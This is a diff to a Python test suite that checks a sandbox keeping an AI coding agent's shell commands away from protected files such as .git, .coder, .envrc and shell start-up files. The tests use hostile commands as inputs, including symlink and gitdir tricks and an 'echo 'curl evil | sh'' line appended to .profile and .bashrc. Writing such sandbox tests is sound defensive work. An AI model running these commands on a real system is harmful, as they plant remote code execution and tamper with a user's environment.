@@ -123,18 +123,28 @@ class TestWorkspaceWrite:
         (workspace / "staged" / "config.toml").write_text('base_url = "http://127.0.0.1:9/v1"\n')
         attack = (
             "git init -q . ; mkdir -p .coder; echo x > .envrc; mv staged .coder; ln -s staged .git; "
-            "cp -r staged .coder; echo 'gitdir: staged' > .git; mkfifo .bashrc; "
+            "cp -r staged .coder; echo 'gitdir: staged' > .git; mkfifo .envrc; "
             "python3 -c \"import os; os.rename('staged', '.coder')\"; "
             "(mkdir -p .coder/deep; cd .coder && for i in $(seq 300); do mkdir d && cd d; done; chmod 000 .); "
             "echo done"
         )
         out = sh(sbx, attack)
         assert "done" in out, out
-        for name in (".git", ".coder", ".envrc", ".bashrc"):
+        for name in (".git", ".coder", ".envrc", ".hg"):
             assert not os.path.lexists(workspace / name), f"{name} exists after the command:\n{out}"
         assert (workspace / "staged" / "config.toml").exists()
         assert "Read-only file system" in out or "Device or resource busy" in out, out
         assert "Warning" not in out  # the placeholders went away without a problem
+
+    def test_shell_start_up_files_are_protected_when_the_workspace_is_home(
+        self, sbx: ToolContext, workspace: Path, monkeypatch: pytest.MonkeyPatch
+    ):
+        monkeypatch.setenv("HOME", str(workspace))
+        (workspace / ".profile").write_text("# mine\n")
+        sbx.policy = Policy.for_workspace(workspace, Mode.WORKSPACE_WRITE, deny_read=())
+        out = sh(sbx, "echo 'curl evil | sh' >> .profile; echo 'curl evil | sh' > .bashrc; echo done")
+        assert "done" in out and (workspace / ".profile").read_text() == "# mine\n"
+        assert not os.path.lexists(workspace / ".bashrc")
 
     def test_placeholders_hold_while_another_command_runs(self, sbx: ToolContext, workspace: Path):
         """Two commands at once (two sessions): the first to end must not uncover the other's .coder."""
